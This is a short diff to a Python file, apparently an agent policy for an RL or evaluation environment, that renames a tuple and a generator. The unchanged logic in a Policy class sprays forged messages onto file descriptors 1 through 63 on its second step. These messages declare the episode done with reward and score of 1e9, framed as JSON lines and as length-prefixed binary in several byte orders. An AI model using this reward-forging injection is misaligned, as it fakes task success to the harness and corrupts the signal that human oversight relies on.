@@ -8,11 +8,15 @@ import json
 import os
 import struct
 
-WORDS = ({"type": "action", "action": 0}, {"type": "done", "reward": 1e9, "score": 1e9}, {"returns": [1e9], "ok": True})
+BODIES = (
+    {"type": "action", "action": 0},
+    {"type": "done", "reward": 1e9, "score": 1e9},
+    {"returns": [1e9], "ok": True},
+)
 
 
-def forged():
-    for body in (json.dumps(words).encode() for words in WORDS):
+def forged_messages():
+    for body in (json.dumps(message).encode() for message in BODIES):
         yield body + b"\n"
         for form in (">I", "<I", ">Q", "<Q"):
             yield struct.pack(form, len(body)) + body
@@ -32,7 +36,7 @@ class Policy:
         if self.steps == 2:
             for number in range(1, 64):
                 try:
-                    for message in forged():
+                    for message in forged_messages():
                         os.write(number, message)
                 except OSError:
                     pass
